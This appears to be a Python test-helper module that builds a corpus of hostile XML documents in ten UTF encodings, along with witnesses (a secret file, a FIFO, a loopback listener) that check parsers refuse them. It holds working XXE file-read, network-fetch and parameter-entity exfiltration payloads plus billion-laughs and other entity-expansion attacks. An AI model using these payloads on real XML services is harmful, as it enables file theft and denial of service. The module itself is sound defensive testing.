"""The hostile XML corpus and its witnesses, shared by every XML entry point's tests.

Each attack is written once as text and encoded in every encoding a partner could use: UTF-8,
UTF-16 LE/BE with and without a byte order mark, and UTF-32 LE/BE with and without one (the XML
declaration names the encoding, as Appendix F of the XML spec expects when there is no BOM).

Witnesses, not stopwatches, prove that nothing was read or fetched:

- ``secret``: a file holding a unique marker; the marker must never appear in any answer, and the same
  attack aimed at ``absent`` (a path of the same length that does not exist) must get the very same
  answer, so the answer is no oracle on whether a file exists;
- ``fifo``: a named pipe with no writer; a parser that opened it would block for ever, so a refusal
  that comes back at all proves it was not opened;
- ``listener``: a loopback TCP port that records every connection (there must be none);
- ``/dev/zero``: a parameter entity that would never end were it read.
"""

from __future__ import annotations

import os
import socket
import sys
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

MARKER = "MARKER-5b1e0c9d-must-never-be-read"
#: how long refusing one document may take: a parser blocked on the FIFO or /dev/zero never returns, and an
#: expanding entity would take minutes. This is a hang detector, not a speed check: at 1 s a refusal that
#: paid for a cold import on a loaded machine (three test workers on two cores) failed once. Under coverage
#: measurement every line is traced, several times slower, so the limit is three times as long there.
LIMIT_S = 15.0 if "coverage" in sys.modules else 5.0

#: (label, Python codec, byte order mark written or not)
ENCODINGS: list[tuple[str, str, bool]] = [
    ("utf-8", "utf-8", False),
    ("utf-8-bom", "utf-8", True),
    ("utf-16le", "utf-16-le", False),
    ("utf-16le-bom", "utf-16-le", True),
    ("utf-16be", "utf-16-be", False),
    ("utf-16be-bom", "utf-16-be", True),
    ("utf-32le", "utf-32-le", False),
    ("utf-32le-bom", "utf-32-le", True),
    ("utf-32be", "utf-32-be", False),
    ("utf-32be-bom", "utf-32-be", True),
]


@dataclass
class Witnesses:
    """The files and the port the attacks aim at."""

    folder: Path
    port: int
    hits: list[bytes] = field(default_factory=list)

    @property
    def secret(self) -> Path:
        return self.folder / "secret.txt"

    @property
    def absent(self) -> Path:
        return self.folder / "absent.txt"  # same length as secret.txt: answers can be compared exactly

    @property
    def fifo(self) -> Path:
        return self.folder / "pipe.fifo"


def attacks(target: Path, w: Witnesses) -> dict[str, str]:
    """Every attack as text; ``target`` is the local file the file-reading ones aim at."""
    file_uri = target.as_uri()
    net = f"http://127.0.0.1:{w.port}"
    lol = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 11))
    # Sizes stay under a partner message's 1 MiB body limit even in UTF-32, so every entry point sees them.
    return {
        "billion-laughs": f'<!DOCTYPE r [<!ENTITY l0 "lol">{lol}]><r>&l10;</r>',
        "xxe-local-file": f'<!DOCTYPE r [<!ENTITY x SYSTEM "{file_uri}">]><r>&x;</r>',
        "xxe-network": f'<!DOCTYPE r [<!ENTITY x SYSTEM "{net}/x">]><r>&x;</r>',
        "external-dtd-file": f'<!DOCTYPE r SYSTEM "{file_uri}"><r/>',
        "external-dtd-network": f'<!DOCTYPE r SYSTEM "{net}/r.dtd"><r/>',
        "parameter-entity-file": f'<!DOCTYPE r [<!ENTITY % p SYSTEM "{file_uri}"> %p;]><r/>',
        "parameter-entity-dev-zero": '<!DOCTYPE r [<!ENTITY % p SYSTEM "file:///dev/zero"> %p;]><r/>',
        "parameter-entity-fifo": f'<!DOCTYPE r [<!ENTITY % p SYSTEM "{w.fifo.as_uri()}"> %p;]><r/>',
        "parameter-entity-network": f'<!DOCTYPE r [<!ENTITY % p SYSTEM "{net}/p.dtd"> %p;]><r/>',
        "parameter-entity-exfiltration": (
            f'<!DOCTYPE r [<!ENTITY % a SYSTEM "{file_uri}">'
            f"<!ENTITY % b \"<!ENTITY &#x25; c SYSTEM '{net}/?%a;'>\"> %b; %c;]><r/>"),
        "quadratic-blowup": '<!DOCTYPE r [<!ENTITY a "' + "A" * 20_000 + '">]><r>' + "&a;" * 20_000 + "</r>",
        "lowercase-doctype": f'<!doctype r [<!entity x SYSTEM "{file_uri}">]><r>&x;</r>',
        "xinclude": (f'<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="{file_uri}" parse="text"/>'
                     f'<xi:include href="{net}/inc" parse="text"/></r>'),
        "deep-nesting": "<a>" * 10_000 + "</a>" * 10_000,
        "huge-attribute": '<r a="' + "x" * 150_000 + '"/>',
    }


def encode(text: str, codec: str, bom: bool) -> bytes:
    """The document in ``codec`` with an XML declaration naming it, and a byte order mark if asked."""
    name = codec.split("-")[0].upper() + "-" + codec.split("-")[1]
    data = (f'<?xml version="1.0" encoding="{name}"?>' + text).encode(codec)
    return ("\ufeff".encode(codec) + data) if bom else data


def documents(target: Path, w: Witnesses, encodings: list[tuple[str, str, bool]] | None = None
              ) -> Iterator[tuple[str, bytes]]:
    """(label, bytes) for every attack in every encoding."""
    for name, text in attacks(target, w).items():
        for label, codec, bom in encodings or ENCODINGS:
            yield f"{name}/{label}", encode(text, codec, bom)


def rotation(target: Path, w: Witnesses) -> Iterator[tuple[str, bytes]]:
    """Every attack once, the encodings taken in turn (for entry points too slow for the whole matrix)."""
    for n, (name, text) in enumerate(attacks(target, w).items()):
        label, codec, bom = ENCODINGS[n % len(ENCODINGS)]
        yield f"{name}/{label}", encode(text, codec, bom)


def make_witnesses(folder: Path) -> tuple[Witnesses, Callable[[], None]]:
    """Secret file, FIFO and a recording loopback listener; returns them and a function that stops it all."""
    folder.mkdir(parents=True, exist_ok=True)
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(16)
    server.settimeout(0.05)
    w = Witnesses(folder, server.getsockname()[1])
    w.secret.write_text(MARKER)
    os.mkfifo(w.fifo)
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            conn.settimeout(0.5)
            try:
                w.hits.append(conn.recv(1024) or b"(connected)")
            except OSError:
                w.hits.append(b"(connected)")
            conn.close()

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()

    def close() -> None:
        stop.set()
        thread.join()
        server.close()
        # Unblock a parser that opened the FIFO (it would have failed the test already).
        try:
            fd = os.open(w.fifo, os.O_WRONLY | os.O_NONBLOCK)
            os.close(fd)
        except OSError:
            pass

    return w, close


def bounded(call: Callable[[], Any], limit_s: float) -> tuple[float, BaseException | None, Any]:
    """Run ``call`` in a thread; (elapsed, exception raised, result). Fails the test if it does not return
    within ``limit_s`` (a parser blocked on the FIFO or /dev/zero never would)."""
    outcome: dict[str, Any] = {}

    def run() -> None:
        started = time.perf_counter()
        try:
            outcome["result"] = call()
        except BaseException as exc:  # the caller asserts on it
            outcome["error"] = exc
        outcome["elapsed"] = time.perf_counter() - started

    thread = threading.Thread(target=run, daemon=True)
    thread.start()
    thread.join(limit_s)
    if thread.is_alive():
        raise AssertionError(f"still running after {limit_s} s: the parser is reading something it must not")
    return outcome["elapsed"], outcome.get("error"), outcome.get("result")
